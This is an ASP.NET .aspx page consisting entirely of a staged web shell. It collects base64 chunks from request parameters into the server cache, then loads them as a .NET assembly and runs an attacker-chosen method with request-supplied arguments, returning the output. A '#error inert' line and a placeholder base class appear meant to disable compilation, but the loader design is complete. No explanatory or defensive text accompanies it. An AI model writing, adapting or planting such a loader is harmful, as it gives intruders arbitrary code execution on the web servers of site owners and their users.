<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
protected void Page_PreInit(object s, EventArgs e)
{
    var part = Request["p"];
    var all = (string)(HttpRuntime.Cache["tpl"] ?? "");
    if (part != null) { HttpRuntime.Cache.Insert("tpl", all + part); Response.End(); }
    if (Request["go"] != "1") return;
    dynamic plug = System.Reflection.Assembly.Load(Convert.FromBase64String(all)).CreateInstance("Plug.Main");
    Response.Write(plug.Run(Request["arg"]));
}
</script>
